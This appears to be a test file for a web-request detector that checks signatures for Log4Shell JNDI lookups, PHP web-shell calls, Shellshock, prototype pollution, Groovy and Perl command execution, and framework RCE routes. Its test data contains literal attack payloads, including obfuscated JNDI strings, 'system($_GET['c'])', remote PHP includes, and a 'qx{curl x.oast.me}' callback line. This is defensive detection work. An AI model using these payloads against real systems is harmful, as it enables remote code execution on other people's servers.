// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` text, not templates
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { demoCommandCall, developerContext, twoWords } from "./demo.js";
import { frameworkRoute, renderCallbackKey } from "./framework.js";
import { findSerialized, groovyExecute } from "./java.js";
import { detectLog4j } from "./log4shell.js";
import { detectPhp } from "./php.js";
import { detectPerlExec, detectProto, detectShellshock, findPerlExec } from "./scripting.js";

describe("log4j lookups", () => {
  it("resolves nested lookups to jndi", () => {
    for (const v of [
      "${jndi:ldap://h/a}",
      "${${lower:J}ndi:dns://h}",
      "${${::-j}${::-n}${::-d}${::-i}:rmi://h}",
      "$${env:X:-${env:Y:-$}{jndi:ldap://h/}}}",
    ]) {
      assert.equal(detectLog4j(v)?.signature, "rce.log4shell-jndi", v);
    }
  });
  it("ignores templates and shell parameters", () => {
    assert.equal(detectLog4j("${price}"), null);
    assert.equal(detectLog4j("${HOME:-/root}"), null);
  });
  it("never throws", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (s) => void detectLog4j(`\${${s}`)),
      { numRuns: 1000 },
    );
  });
});

describe("php", () => {
  it("finds calls through comments and variable functions", () => {
    assert.ok(detectPhp("exec /* x */ ('id')", true));
    assert.ok(detectPhp("$f = 'x'; $f('id');", true));
    assert.ok(detectPhp('O:8:"stdClass":0:{}', true));
    assert.equal(detectPhp("the system (which I like) works", true), null);
    assert.equal(detectPhp("Cost $5 (approx.)", true), null);
  });
});

describe("php shown in prose", () => {
  const post = (code: string) => `In PHP I do:\n<?php\n${code}\n?>\nIs this safe?`;
  it("is judged by what its code does, not by its open tag", () => {
    assert.equal(detectPhp(post("$n = htmlspecialchars($_GET['n']);\necho \"Hi $n\";"), true), null);
    assert.equal(detectPhp(post("require_once 'config.php';"), true), null);
    assert.equal(detectPhp(post("$x = base64_decode($d);"), true), null);
    assert.equal(detectPhp(post("echo preg_replace('/\\s+/', ' ', $s);"), true), null);
  });
  it("still flags runners, remote includes, decoder chains, backticks and variable functions", () => {
    for (const code of [
      "system($_GET['c']);",
      "echo shell_exec('id');",
      "include $_GET['p'];",
      "require('http://x.example/a.txt');",
      "eval(gzinflate(base64_decode($p)));",
      "$x = str_rot13(base64_decode($p));",
      "echo preg_replace('/x/e', $_GET['r'], $s);",
      "array_map('system', $a);",
      "$o = `id`;",
      "$f = $_GET['f']; $f('id');",
      'echo "{${phpinfo()}}";',
      "file_put_contents('s.php', $_POST['d']);",
      "phpinfo();",
    ])
      assert.ok(detectPhp(post(code), true), code);
  });
  it("flags a tag that no sentence introduces", () => {
    assert.equal(detectPhp("<?php echo 1; ?>", true)?.signature, "rce.php-open-tag");
    assert.equal(detectPhp("GIF89a\n<?php echo 1; ?>", true)?.signature, "rce.php-open-tag");
  });
});

describe("demo commands", () => {
  it("reads the arguments of a runner as a harmless command only when they are", () => {
    const at = (s: string) => demoCommandCall(s, s.indexOf("("));
    assert.ok(at("os.system('ls')") > 0);
    assert.ok(at("subprocess.run(['ls', '-l'], capture_output=True)") > 0);
    assert.ok(at('os.popen("echo hello")') > 0);
    for (const s of [
      "os.system('id')",
      "os.system('ls /')",
      "os.system('ls; id')",
      "os.system('ls ../x')",
      "os.system(cmd)",
      "subprocess.run(['ls', '-l'], env=os.environ)",
      "subprocess.run(['ls'] + args)",
      "os.system('ls', x('y'))",
    ])
      assert.equal(at(s), -1, s);
  });
  it("finds two words of a sentence in one pass", () => {
    assert.ok(twoWords("For example ", " ,.:", 2));
    assert.ok(twoWords(" runs a shell.", " ,.:", 1));
    assert.ok(twoWords("careful. Then", " ,.:", 2));
    assert.equal(twoWords("a b c", " ", 2), false);
    assert.equal(twoWords("word    word", " ", 2), false);
    assert.equal(twoWords("x = os.", " ,.:", 2), false);
    assert.equal(twoWords("abc;def", " ,", 2), false);
  });
  it("needs a sentence around the call, or a program that imports its modules", () => {
    const s = "For example os.system('ls') runs a shell.";
    assert.ok(developerContext(s, s.indexOf("os."), s.indexOf(")")));
    const t = "os.system('ls')";
    assert.equal(developerContext(t, 0, t.length - 1), false);
    const u = "import os\nx = os.system('ls')\nprint(x)";
    assert.ok(developerContext(u, u.indexOf("os.s"), u.indexOf(")")));
    const v = "import os\nos.system('ls')";
    assert.equal(developerContext(v, v.indexOf("os.s"), v.length - 1), false);
  });
});

describe("java serialization magic", () => {
  it("finds AC ED 00 05 at every base64 alignment", () => {
    for (const pre of [[], [0], [0, 0]]) {
      const b64 = Buffer.from([...pre, 0xac, 0xed, 0, 5, 0x73, 0x72]).toString("base64");
      assert.ok(findSerialized(b64, b64.toLowerCase()), b64);
    }
  });
});

describe("shellshock and prototype pollution", () => {
  it("needs the function definition at the start", () => {
    assert.ok(detectShellshock("() { :; }; echo x"));
    assert.equal(detectShellshock("call f() { return 1 }"), null);
  });
  it("flags __proto__ as a key path", () => {
    assert.ok(detectProto("a[__proto__][x]", "a[__proto__][x]", true));
    assert.ok(detectProto("constructor[prototype][x]", "constructor[prototype][x]", true));
    assert.equal(detectProto("the constructor of the house", "the constructor of the house", false), null);
  });
});

describe("php complex syntax", () => {
  it("calls whatever function sits inside `{${…}}`", () => {
    assert.equal(detectPhp("x{${usleep(9)}}", false)?.signature, "rce.php-complex-syntax");
    assert.equal(detectPhp("{${ Foo\\bar (1)}}", false)?.signature, "rce.php-complex-syntax");
    assert.equal(detectPhp("total {${amount}}", false), null);
  });
});

describe("groovy execute", () => {
  it("flags a string or list literal run as a process", () => {
    for (const v of ['println "id".execute().text', '["sh","-c","id"].execute()', "'ls -la' .execute()"])
      assert.equal(groovyExecute(v)?.signature, "rce.groovy-execute", v);
  });
  it("ignores execute() on variables, indexes and in prose", () => {
    for (const v of [
      "stmt.execute()",
      "call execute() on it",
      "cmds[0].execute()",
      'map["k"].execute()',
      '"".execute()',
    ])
      assert.equal(groovyExecute(v), null, v);
  });
});

describe("perl command execution", () => {
  it("flags qx with a command inside, and DjVu metadata annotations", () => {
    for (const v of [
      "qx{curl x.oast.me}",
      "qx(id)",
      "qx/uname -a/",
      "qx {whoami}",
      "(metadata \"\\c${system('id')};\")",
      "(metadata (Author `id`))",
    ])
      assert.equal(detectPerlExec(v)?.signature, "rce.perl-command", v);
  });
  it("ignores qx without a command, and class paths", () => {
    for (const v of ["qx/ui/core/Widget.js", "qx{5}", "qx #id#", "aqx{id}", "qx/id"])
      assert.equal(detectPerlExec(v), null, v);
  });
  it("finds an annotation in upload bytes, and stays bounded", () => {
    const bytes = `AT&TFORM\u0000\u0000\u0003\u00afDJVU${"\u0000x".repeat(5000)}(metadata (Copyright "\\\n" . qx{curl h} . \\\n" b ") )`;
    assert.equal(findPerlExec(bytes)?.signature, "rce.perl-command");
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => void findPerlExec(`qx{${s}(metadata ${s}`)),
      {
        numRuns: 500,
      },
    );
  });
});

describe("framework signs", () => {
  it("flags namespaced routes to a container's invoker or a think class", () => {
    for (const v of [
      "/Index/\\think\\app/invokefunction",
      "index/think\\Container/invokefunction",
      "index/\\think\\Request/input",
    ])
      assert.equal(frameworkRoute(v)?.signature, "rce.php-framework-route", v);
    assert.equal(frameworkRoute("C:\\Users\\think\\Documents/report.docx"), null);
    assert.equal(frameworkRoute("a\\b/c"), null);
  });
  it("flags Drupal render callbacks in parameter names only as properties", () => {
    for (const k of ["mail[#post_render][]", "#lazy_builder", "name[ #pre_render ]", "a[#access_callback]"])
      assert.equal(renderCallbackKey(k)?.signature, "rce.drupal-render-callback", k);
    for (const k of ["mail[#type]", "tag#process", "#processing", "post_render"])
      assert.equal(renderCallbackKey(k), null, k);
  });
});
